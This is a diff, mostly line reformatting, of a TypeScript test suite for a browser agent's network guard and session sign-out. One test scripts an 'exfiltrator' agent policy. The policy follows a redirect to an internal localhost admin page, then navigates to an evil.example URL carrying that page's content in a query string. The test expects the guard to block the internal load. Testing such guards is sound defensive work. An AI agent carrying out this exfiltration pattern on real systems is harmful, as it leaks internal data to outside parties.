@@ -45,7 +45,12 @@ const resolve: Resolver = async (host) => {
   return ['127.0.0.1'];
 };
 const guardOn = () => ({
-  network: networkPolicy(false, resolve, { dial: (address: string, port: number) => ({ address: [SHOP_IP, EVIL_IP].includes(address) ? '127.0.0.1' : address, port }) }),
+  network: networkPolicy(false, resolve, {
+    dial: (address: string, port: number) => ({
+      address: [SHOP_IP, EVIL_IP].includes(address) ? '127.0.0.1' : address,
+      port,
+    }),
+  }),
 });
 
 beforeAll(async () => {
@@ -56,12 +61,16 @@ beforeAll(async () => {
     routes: [
       (req, res) => {
         const path = req.url ?? '/';
-        if (path === '/') res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Shop</h1><a href="/to-canary">Deals</a>');
-        else if (path === '/to-canary') res.writeHead(302, { location: `http://127.0.0.1:${portOf(canary)}/admin` }).end();
+        if (path === '/')
+          res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Shop</h1><a href="/to-canary">Deals</a>');
+        else if (path === '/to-canary')
+          res.writeHead(302, { location: `http://127.0.0.1:${portOf(canary)}/admin` }).end();
         else if (path === '/promo') {
-          res.writeHead(200, { 'content-type': 'text/html' }).end(
-            `<h1>Promo</h1><p id="code">Use code SUMMERSALE2026 today</p><script>document.cookie = 'promo=SUMMERSALE2026; path=/'; document.cookie = 'x=Use code; path=/'</script>`,
-          );
+          res
+            .writeHead(200, { 'content-type': 'text/html' })
+            .end(
+              `<h1>Promo</h1><p id="code">Use code SUMMERSALE2026 today</p><script>document.cookie = 'promo=SUMMERSALE2026; path=/'; document.cookie = 'x=Use code; path=/'</script>`,
+            );
         } else return false;
         return true;
       },
@@ -80,10 +89,19 @@ describe('the agent behind the network guard', () => {
     const exfiltrator: Policy = (v) => {
       if (v.calls === 0) return { tool: 'navigate', args: { url: shopUrl('/to-canary') } };
       if (v.calls === 1) return { tool: 'content.get_markdown', args: {} };
-      if (v.calls === 2) return { tool: 'navigate', args: { url: `http://evil.example:${portOf(exfil)}/?d=${encodeURIComponent(v.lastResult.slice(0, 300))}` } };
+      if (v.calls === 2)
+        return {
+          tool: 'navigate',
+          args: { url: `http://evil.example:${portOf(exfil)}/?d=${encodeURIComponent(v.lastResult.slice(0, 300))}` },
+        };
       return { tool: 'done', args: { answer: v.lastResult } };
     };
-    const { task, model } = await world.run({ task: 'Find the deals', agent: { startUrl: shopUrl('/') }, policy: exfiltrator, deps: guardOn() });
+    const { task, model } = await world.run({
+      task: 'Find the deals',
+      agent: { startUrl: shopUrl('/') },
+      policy: exfiltrator,
+      deps: guardOn(),
+    });
     expect(task.status).toBe('failed');
     expect(task.error).toContain(`Refused to load http://127.0.0.1:${portOf(canary)}/admin`);
     expect(canaryHits).toEqual([]);
@@ -99,7 +117,12 @@ describe('the agent behind the network guard', () => {
       const code = /Use code (\w+) today/.exec(v.observation)?.[0];
       return code ? { tool: 'done', args: { answer: code } } : { tool: 'snapshot', args: {} };
     };
-    const { task } = await world.run({ task: 'What is the promo code?', agent: { startUrl: shopUrl('/promo') }, policy: reader, deps: guardOn() });
+    const { task } = await world.run({
+      task: 'What is the promo code?',
+      agent: { startUrl: shopUrl('/promo') },
+      policy: reader,
+      deps: guardOn(),
+    });
     expect(task.status, String(task.error)).toBe('completed');
     expect(task.result).toBe('Use code SUMMERSALE2026 today');
   });
@@ -109,19 +132,33 @@ describe('signing out', () => {
   it('a follow-up turn after DELETE credentials resumes signed out: no cookie was kept, the resumed page needs the login', async () => {
     const businessId = uniqueId('agent-biz');
     await world.uploadRedditSession(businessId, 'user-out');
-    const first = await world.submit({ businessId, endUserId: 'user-out', task: 'Check which reddit account I am signed in with', agent: { startUrl: `${world.site.crossOriginUrl}/account` } });
+    const first = await world.submit({
+      businessId,
+      endUserId: 'user-out',
+      task: 'Check which reddit account I am signed in with',
+      agent: { startUrl: `${world.site.crossOriginUrl}/account` },
+    });
     world.accountVisits.length = 0;
     const t1 = await world.work(first.taskId, scriptedModel(accountReader));
     expect(t1.result).toMatch(/^Signed in as alice_hikes/);
     expect(world.accountVisits).toEqual([true]);
     // No platform cookie is in the saved state, whatever its value.
-    const saved = await new EncryptedSessionStateStore(world.deps.results, world.deps.encryptor).load(businessId, first.sessionId, { businessId, endUserId: 'user-out' });
+    const saved = await new EncryptedSessionStateStore(world.deps.results, world.deps.encryptor).load(
+      businessId,
+      first.sessionId,
+      { businessId, endUserId: 'user-out' },
+    );
     expect(saved?.lastUrl).toContain('/account');
     expect(saved?.storageState.cookies.filter((c) => c.domain.replace(/^\./, '') === 'localhost')).toEqual([]);
     expect(await world.deps.results.get(sessionStateKey(businessId, first.sessionId))).toBeDefined();
 
     await deleteCredentials(world.deps, { businessId }, { endUserId: 'user-out' });
-    const second = await world.submit({ businessId, endUserId: 'user-out', sessionId: first.sessionId, task: 'Continue where we left off' });
+    const second = await world.submit({
+      businessId,
+      endUserId: 'user-out',
+      sessionId: first.sessionId,
+      task: 'Continue where we left off',
+    });
     const model = scriptedModel(accountReader);
     const t2 = await world.work(second.taskId, model);
     expect(t2.status).toBe('failed');
